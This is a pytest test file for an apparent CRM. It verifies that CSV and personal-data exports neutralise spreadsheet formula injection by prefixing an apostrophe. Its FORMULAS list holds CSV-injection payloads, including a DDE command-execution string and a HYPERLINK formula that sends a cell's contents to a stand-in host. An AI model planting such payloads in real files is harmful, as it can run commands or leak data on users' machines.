"""No file that we hand out holds a cell that a spreadsheet runs, whoever wrote it, in whichever column."""

import csv
import io
import unicodedata
from zipfile import ZipFile

import pytest
from hypothesis import given
from hypothesis import strategies as st

from leadcrm.accounts import operations as accounts
from leadcrm.accounts.data import AccountData, ContactData, OpportunityData
from leadcrm.core.csv_cells import safe_cell
from leadcrm.core.db import db, perform
from leadcrm.identity.models import User
from leadcrm.leads import operations as leads
from leadcrm.leads.data import LeadData

FORMULAS = (
    "=1+1", "@SUM(A1)", "-2+3", "+1+cmd|x", "\t=1", " =1", "＝1+1", "＠x", "－2+3", "＋1+1", "\u200b=1", "\u00a0@x",
    '=HYPERLINK("http://x.example?"&A1;"Look")', "=cmd|' /C calc'!A0", "==1", "=1,=2",
)  # fmt: skip
HARMLESS = ("Zoë", "+27215550147", "a=b", "O'Neil", "", "1-2", "jo@mail.example", "'quoted'")


def runs(cell: str) -> bool:
    """Whether a spreadsheet may take the cell for a formula: its first character that can be seen says so."""
    plain = unicodedata.normalize("NFKC", cell)
    seen = "".join(c for c in plain if not unicodedata.category(c).startswith(("C", "Z")))
    return seen[:1] in tuple("=+-@") and not (cell[:1] == "+" and cell[1:].isdigit())


def running(text: str) -> list[str]:
    """The cells of a file that may run."""
    return [cell for row in csv.reader(io.StringIO(text.removeprefix("\ufeff"))) for cell in row if runs(cell)]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_stands_behind_an_apostrophe(text):
    assert runs(text)
    assert safe_cell(text) == f"'{text}"


@pytest.mark.parametrize("text", HARMLESS)
def test_what_is_none_stays_as_it_is(text):
    assert safe_cell(text) == text


@given(st.text(st.sampled_from("=+-@＝\t\r\n \u200b\u00a0'a1")))
def test_no_cell_runs(text):
    assert not runs(safe_cell(text))


@pytest.fixture
def hostile(acme, cast) -> list[str]:
    """A lead, an account with a deal, and a person there for every formula. Returns the leads' ids."""
    perform(_rename, cast.ada, FORMULAS[0])
    made = []
    for n, text in enumerate(FORMULAS):
        said = {"company": text, "interest": text, "source": text[:60], "tags": [text[:40]]}
        lead = perform(leads.create_lead, LeadData(first_name=text, email=f"{n}@mail.example", **said), by=cast.ada)
        words = {"industry": text, "notes": text}
        account = perform(accounts.create_account, AccountData(name=f"{text}{n}", owner_id=cast.ada.id, **words))
        person = ContactData(first_name=text, last_name=text, position=text)
        perform(accounts.add_contact, account, person, lead_id=lead.id)
        perform(accounts.create_opportunity, account, OpportunityData(name=text, notes=text))
        made.append(lead.id)
    return made


def _rename(user: User, name: str) -> None:
    db.session.merge(user).name = name


@pytest.mark.parametrize("path", ["/leads/export.csv", "/accounts/export.csv"])
def test_no_list_that_is_exported_runs(hostile, sign_in, cast, path):
    text = sign_in(cast.ada).get(path).text
    assert text.count("'=1+1") > 1
    assert not running(text)


def test_nothing_of_what_a_person_is_given_runs(hostile, sign_in, cast):
    ada, tables = sign_in(cast.ada), set()
    for lead_id in hostile:
        answer = ada.post(f"/leads/{lead_id}/personal-data/export")
        archive = ZipFile(io.BytesIO(answer.data))
        for name in (name for name in archive.namelist() if name.endswith(".csv")):
            assert not running(archive.read(name).decode()), name
            tables.add(name)
    assert {"tables/leads.csv", "tables/contacts.csv"} <= tables
